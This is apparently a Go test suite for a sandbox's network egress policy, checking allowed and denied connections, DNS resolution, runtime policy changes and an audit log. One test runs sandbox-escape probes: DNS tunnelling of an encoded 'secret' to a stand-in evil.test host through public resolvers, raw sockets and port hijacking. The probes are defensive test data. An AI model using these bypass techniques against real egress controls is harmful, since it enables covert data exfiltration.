//go:build linux

package sandbox_test

import (
	"bytes"
	"context"
	"fmt"
	"net/netip"
	"os/exec"
	"strings"
	"testing"

	"github.com/tent-sandbox/tent/netpolicy"
	"github.com/tent-sandbox/tent/sandbox"
)

// needTools skips unless the host has every program (the sandbox sees
// the host's /usr).
func needTools(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if _, err := exec.LookPath(n); err != nil {
			t.Skipf("%s is not installed (scripts/setup installs it)", n)
		}
	}
}

// pyConnect is a python3 program: connect to HOST PORT, send an HTTP
// request, print the status line, "EOF", or the exception's class.
const pyConnect = `import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
    s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
    d = s.recv(200)
    print(d.split(b"\r\n")[0].decode() if d else "EOF")
except Exception as e:
    print(type(e).__name__)
`

// pyBind is a python3 program: bind a TCP socket to HOST PORT, print "ok"
// or the errno's name.
const pyBind = `import errno, socket, sys
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam)
try:
    s.bind((sys.argv[1], int(sys.argv[2])))
    s.listen()
    print("ok")
except OSError as e:
    print(errno.errorcode[e.errno])
`

// transparentSpec allows allowed.test and 127.0.0.1 (where the fake
// resolver sends every name) on port only.
func transparentSpec(port string) sandbox.Spec {
	return sandbox.Spec{
		Networking: sandbox.Networking{
			Network: sandbox.NetworkPolicy{
				Mode:         netpolicy.Limited,
				AllowedHosts: []string{"allowed.test:" + port, "*.allowed.test:" + port, "127.0.0.1:" + port},
				DeniedHosts:  []string{"blocked.allowed.test"},
			},
		},
	}
}

// runScript runs a shell script in a limited sandbox without the proxy
// variables and returns its lines as a map of "key: value".
func runScript(t *testing.T, spec sandbox.Spec, res *fakeResolver, audit *bytes.Buffer, script string) (map[string]string, *sandbox.Report) {
	t.Helper()
	script = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy\n" + script
	cmd := sandbox.Command(context.Background(), withProbe(t, spec), "sh", "-c", script)
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr, cmd.Resolver = &out, &errOut, res
	if audit != nil {
		cmd.NetLog = audit
	}
	if err := cmd.Run(); err != nil {
		t.Fatalf("script: %v\nstdout: %s\nstderr: %s", err, out.String(), errOut.String())
	}
	got := map[string]string{}
	for _, line := range strings.Split(out.String(), "\n") {
		if k, v, ok := strings.Cut(line, ": "); ok {
			got[k] = strings.TrimSpace(v)
		}
	}
	t.Logf("script output:\n%s%s", out.String(), errOut.String())
	return got, cmd.Report
}

// TestTransparentEgress: with the proxy variables unset, real programs
// (getent, curl, a Go program with a bare http.Transport, python's
// socket.create_connection) reach what the policy allows, by name and by
// address, and nothing else, with exact errors.
func TestTransparentEgress(t *testing.T) {
	needTools(t, "curl", "python3", "getent")
	port, _ := hostServers(t)
	res := &fakeResolver{}
	var audit bytes.Buffer
	script := fmt.Sprintf(`
echo "getent allowed: $(getent hosts allowed.test)"
getent hosts denied.test; echo "getent denied: $?"
echo "curl allowed: $(curl -sS --noproxy '*' http://allowed.test:%[1]s/ 2>&1)"
echo "curl denied: $(curl -sS --noproxy '*' http://denied.test:%[1]s/ 2>&1)"
echo "curl blocked: $(curl -sS --noproxy '*' http://blocked.allowed.test:%[1]s/ 2>&1)"
echo "go allowed: $(%[2]s/testprobe direct http://api.allowed.test:%[1]s/)"
echo "python allowed ip: $(python3 -c '%[3]s' 127.0.0.1 %[1]s)"
echo "python denied ip: $(python3 -c '%[3]s' 10.9.9.9 %[1]s)"
echo "python uncaught port: $(python3 -c '%[3]s' 10.9.9.9 9)"
echo "python denied ipv6: $(python3 -c '%[3]s' 2001:db8::1 %[1]s)"
echo "udp: $(%[2]s/testprobe udpconn 10.9.9.9 9999)"
`, port, probeTarget, pyConnect)
	got, rep := runScript(t, transparentSpec(port), res, &audit, script)

	fields := strings.Fields(got["getent allowed"])
	if len(fields) != 2 || fields[1] != "allowed.test" || !netpolicy.FakeNet.Contains(netip.MustParseAddr(fields[0])) {
		t.Errorf("getent hosts allowed.test: %q, want a fake address of %v", got["getent allowed"], netpolicy.FakeNet)
	}
	for key, want := range map[string]string{
		"getent denied":        "2", // not found
		"curl allowed":         "hello from the host",
		"curl denied":          "curl: (6) Could not resolve host: denied.test",
		"curl blocked":         "curl: (6) Could not resolve host: blocked.allowed.test",
		"go allowed":           "200 hello from the host",
		"python allowed ip":    "HTTP/1.0 200 OK",
		"python denied ip":     "ConnectionResetError",
		"python uncaught port": "ConnectionRefusedError",
		"python denied ipv6":   "ConnectionResetError",
		"udp":                  "ECONNREFUSED",
	} {
		if got[key] != want {
			t.Errorf("%s: got %q, want %q", key, got[key], want)
		}
	}
	for _, name := range []string{"denied.test", "blocked.allowed.test"} {
		if res.wasAsked(name) {
			t.Errorf("the host resolved the refused name %s", name)
		}
	}
	if !res.wasAsked("allowed.test") || !res.wasAsked("api.allowed.test") {
		t.Error("allowed names were not resolved on the host")
	}
	summary := netpolicy.Summary(rep.NetworkDenied)
	for _, want := range []string{"denied.test (not allowed", "blocked.allowed.test (denied by rule", "10.9.9.9:" + port + " (not allowed)", "2001:db8::1]:" + port + " (not allowed)"} {
		if !strings.Contains(summary, want) {
			t.Errorf("summary %q lacks %q", summary, want)
		}
	}
	if !strings.Contains(audit.String(), `"proto":"transparent","host":"api.allowed.test","port":`+port+`,"addr":"127.0.0.1","verdict":"allow"`) {
		t.Errorf("no transparent allow record for api.allowed.test in the audit log:\n%s", audit.String())
	}
}

// pyDNS is a python3 program: send a DNS query of type TYPE (a number)
// for NAME to SERVER:53 on a connected UDP socket (which takes answers
// only from SERVER), print the answer's RCODE and answer count, or the
// exception's class.
const pyDNS = `import socket, struct, sys
q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
for label in sys.argv[2].split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", int(sys.argv[3]), 1)
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.connect((sys.argv[1], 53))
    s.send(q)
    a = s.recv(512)
    print("rcode=%d answers=%d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0]))
except Exception as e:
    print(type(e).__name__)
`

// TestTransparentBypassProbes attacks the transparent path: binding the
// ports the catcher holds, raw sockets, DNS tunnelling through any
// server address, addresses of the fake range no name owns, IPv6.
func TestTransparentBypassProbes(t *testing.T) {
	needTools(t, "python3", "getent")
	port, _ := hostServers(t)
	res := &fakeResolver{}
	script := fmt.Sprintf(`
for a in 0.0.0.0 127.0.0.1 198.18.5.5 :: ::1; do echo "bind $a: $(python3 -c '%[3]s' $a %[1]s)"; done
echo "bind free port: $(python3 -c '%[3]s' 127.0.0.1 8099)"
echo "raw socket: $(%[2]s/testprobe socket 2 3)"
echo "raw ipv6 socket: $(%[2]s/testprobe socket 10 3)"
getent hosts c2VjcmV0.tunnel.evil.test; echo "tunnel getent: $?"
echo "tunnel via 8.8.8.8: $(python3 -c '%[4]s' 8.8.8.8 c2VjcmV0.tunnel.evil.test 16)"
echo "tunnel via ipv6 server: $(python3 -c '%[4]s' 2001:4860:4860::8888 c2VjcmV0.tunnel.evil.test 1)"
echo "allowed via 9.9.9.9: $(python3 -c '%[4]s' 9.9.9.9 allowed.test 1)"
echo "allowed AAAA: $(python3 -c '%[4]s' 127.0.0.53 allowed.test 28)"
echo "unowned fake address: $(python3 -c '%[5]s' 198.18.9.9 %[1]s)"
echo "proxy port elsewhere: $(python3 -c '%[5]s' 198.18.9.9 3128)"
echo "ipv6 loopback: $(python3 -c '%[5]s' ::1 %[1]s)"
`, port, probeTarget, pyBind, pyDNS, pyConnect)
	got, _ := runScript(t, transparentSpec(port), res, nil, script)
	for key, want := range map[string]string{
		"bind 0.0.0.0":           "EADDRINUSE",
		"bind 127.0.0.1":         "EADDRINUSE",
		"bind 198.18.5.5":        "EADDRINUSE",
		"bind ::":                "EADDRINUSE",
		"bind ::1":               "EADDRINUSE",
		"bind free port":         "ok", // local binding inside stays allowed
		"raw socket":             "EPERM",
		"raw ipv6 socket":        "EPERM",
		"tunnel getent":          "2",
		"tunnel via 8.8.8.8":     "rcode=3 answers=0", // NXDOMAIN, from the address asked
		"tunnel via ipv6 server": "rcode=3 answers=0",
		"allowed via 9.9.9.9":    "rcode=0 answers=1",
		"allowed AAAA":           "rcode=0 answers=0",
		"unowned fake address":   "ConnectionResetError",
		"proxy port elsewhere":   "ConnectionRefusedError",
		"ipv6 loopback":          "ConnectionResetError", // ::1 is no rule's
	} {
		if got[key] != want {
			t.Errorf("%s: got %q, want %q", key, got[key], want)
		}
	}
	if res.wasAsked("c2VjcmV0.tunnel.evil.test") {
		t.Error("the tunnel's name was resolved on the host")
	}
}

// TestTransparentPolicyChangesAtRuntime: in a long-lived sandbox, a rule
// removed refuses the next connection to the address its name was given
// (the address keeps its meaning), and a rule added on a new port is
// caught from then on.
func TestTransparentPolicyChangesAtRuntime(t *testing.T) {
	needTools(t, "python3", "getent", "curl")
	port, _ := hostServers(t)
	port2, _ := hostServers(t)
	res := &fakeResolver{}
	ctx := context.Background()
	sb, err := sandbox.Provision(ctx, withProbe(t, transparentSpec(port)), sandbox.ProvisionOptions{Resolver: res})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Terminate(ctx)
	run := func(script string) map[string]string {
		t.Helper()
		r, err := sb.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "unset http_proxy HTTP_PROXY ALL_PROXY all_proxy\n" + script}})
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("output:\n%s%s", r.Stdout, r.Stderr)
		got := map[string]string{}
		for _, line := range strings.Split(string(r.Stdout), "\n") {
			if k, v, ok := strings.Cut(line, ": "); ok {
				got[k] = strings.TrimSpace(v)
			}
		}
		return got
	}
	got := run(fmt.Sprintf(`a=$(getent hosts allowed.test | cut -d' ' -f1); echo "addr: $a"
echo "before: $(python3 -c '%[1]s' $a %[2]s)"
echo "new port before: $(python3 -c '%[1]s' 127.0.0.1 %[3]s)"`, pyConnect, port, port2))
	addr := got["addr"]
	expect(t, "before the change", got["before"], "HTTP/1.0 200 OK")
	expect(t, "the new port before the change", got["new port before"], "ConnectionRefusedError")

	if err := sb.SetNetworkPolicy(ctx, sandbox.NetworkPolicy{Mode: netpolicy.Limited,
		AllowedHosts: []string{"other.test:" + port2, "127.0.0.1:" + port2}}); err != nil {
		t.Fatal(err)
	}
	got = run(fmt.Sprintf(`echo "after: $(python3 -c '%[1]s' %[2]s %[3]s)"
getent hosts allowed.test; echo "getent after: $?"
echo "new port: $(curl -sS --noproxy '*' http://other.test:%[4]s/ 2>&1)"
echo "new port by address: $(python3 -c '%[1]s' 127.0.0.1 %[4]s)"`, pyConnect, addr, port, port2))
	expect(t, "the old name's address after its rule was removed", got["after"], "ConnectionResetError")
	expect(t, "the old name after its rule was removed", got["getent after"], "2")
	expect(t, "a name on a port added at run time", got["new port"], "hello from the host")
	expect(t, "an address on a port added at run time", got["new port by address"], "HTTP/1.0 200 OK")
	if s := netpolicy.Summary(sb.NetworkDenied()); !strings.Contains(s, "allowed.test:"+port+" (not allowed)") {
		t.Errorf("summary %q lacks the refused connection", s)
	}
}

// TestRuleOnTheProxyPorts: a rule on 3128 or 1080, the ports of the
// proxy's own listeners inside, is not caught (the proxy holds them) and
// does not stop the sandbox from starting.
func TestRuleOnTheProxyPorts(t *testing.T) {
	spec := sandbox.Spec{
		Networking: sandbox.Networking{
			Network: sandbox.NetworkPolicy{Mode: netpolicy.Limited,
				AllowedHosts: []string{"squid.test:3128", "socks.test:1080", "web.test"}},
		},
	}
	_, cmd, err := run(t, spec, "true")
	if err != nil {
		t.Fatal(err)
	}
	var detail string
	for _, p := range cmd.Report.Protections {
		if p.Name == "network namespace" {
			detail = p.Detail
		}
	}
	if !strings.Contains(detail, "caught without a proxy on ports 22, 80, 443)") {
		t.Errorf("report: %q", detail)
	}
}

// TestTransparentEgressProbe is TestTransparentEgress with the static
// probe alone (the VM has no curl, python or getent): Go's own resolver
// and a bare http.Transport reach the allowed name; a refused name does
// not resolve; a refused address on a caught port is reset.
func TestTransparentEgressProbe(t *testing.T) {
	port, _ := hostServers(t)
	spec := transparentSpec(port) // runScript unsets the proxy variables
	res := &fakeResolver{}
	p := probeTarget + "/testprobe"
	got, rep := runScript(t, spec, res, nil, fmt.Sprintf(`
echo "allowed: $(%[1]s direct http://allowed.test:%[2]s/)"
echo "dns allowed: $(%[1]s dns api.allowed.test)"
echo "dns denied: $(%[1]s dns denied.test)"
echo "denied address: $(%[1]s direct http://10.9.9.9:%[2]s/)"
echo "uncaught port: $(%[1]s tcp 10.9.9.9 9)"
`, p, port))
	for key, want := range map[string]string{
		"allowed":       "200 hello from the host",
		"dns allowed":   "ok",
		"dns denied":    "error",
		"uncaught port": "ECONNREFUSED",
	} {
		if got[key] != want {
			t.Errorf("%s: got %q, want %q", key, got[key], want)
		}
	}
	// Reset: seen at connect, at the request's write or at the read.
	if d := got["denied address"]; !strings.HasPrefix(d, "error: ") || !(strings.HasSuffix(d, "connection reset by peer") || strings.HasSuffix(d, "broken pipe")) {
		t.Errorf("denied address: got %q, want a reset", d)
	}
	if res.wasAsked("denied.test") {
		t.Error("the host resolved a refused name")
	}
	if s := netpolicy.Summary(rep.NetworkDenied); !strings.Contains(s, "denied.test (not allowed") || !strings.Contains(s, "10.9.9.9:"+port+" (not allowed") {
		t.Errorf("summary %q", s)
	}
}

// A limited sandbox whose allowlist is empty catches no port (its stub
// DNS alone) and starts, as a one-shot command and a long-lived sandbox;
// a rule added later is caught from then on. (Three proxy sockets were
// refused as malformed: E2B's "deny all, allow later" failed to create.)
func TestTransparentEmptyAllowlist(t *testing.T) {
	spec := sandbox.Spec{Networking: sandbox.Networking{Network: sandbox.NetworkPolicy{Mode: "limited"}}}
	if out := mustRun(t, spec, "echo", "started"); out != "started" {
		t.Errorf("one-shot: %q", out)
	}
	sb := provision(t, spec)
	if out, res := execOut(t, sb, sandbox.ExecRequest{Args: []string{"echo", "started"}}); res.ExitCode != 0 || strings.TrimSpace(out) != "started" {
		t.Errorf("long-lived: %q, %+v", out, res)
	}
	if err := sb.SetNetworkPolicy(context.Background(), sandbox.NetworkPolicy{Mode: "limited", AllowedHosts: []string{"example.com:8443"}}); err != nil {
		t.Fatalf("a rule added later: %v", err)
	}
}
